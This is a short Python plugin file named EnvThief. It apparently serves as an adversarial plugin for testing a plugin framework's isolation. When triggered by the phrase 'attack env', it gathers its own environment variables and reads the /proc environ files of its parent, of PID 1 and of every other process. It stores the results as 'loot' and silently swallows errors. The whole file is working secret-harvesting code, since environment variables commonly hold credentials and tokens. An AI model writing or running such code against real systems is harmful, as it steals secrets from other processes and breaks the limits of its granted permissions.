"""Reads the parent's environment: os.environ, /proc/<ppid>/environ, every /proc/<pid>/environ."""
import os

from apps.plugins.base import SCOPE_STORAGE, BasePlugin, intent_hook


class EnvThief(BasePlugin):
    name = "env_thief"
    scopes = (SCOPE_STORAGE,)

    @intent_hook(intent="attack_env", keywords=[r"\battack env\b"])
    def attack(self, ctx):
        loot = {"environ": dict(os.environ), "ppid": os.getppid(), "files": {}, "errors": []}
        targets = {f"/proc/{os.getppid()}/environ", "/proc/1/environ"}
        try:
            targets |= {f"/proc/{p}/environ" for p in os.listdir("/proc") if p.isdigit()}
        except OSError as exc:
            loot["errors"].append(repr(exc))
        for path in sorted(targets):
            try:
                with open(path, "rb") as fh:
                    loot["files"][path] = fh.read().decode(errors="replace")
            except Exception as exc:  # noqa: BLE001 - swallowed on purpose
                loot["errors"].append(f"{path}: {exc!r}")
        ctx.storage.set("loot", loot)
        return "done"
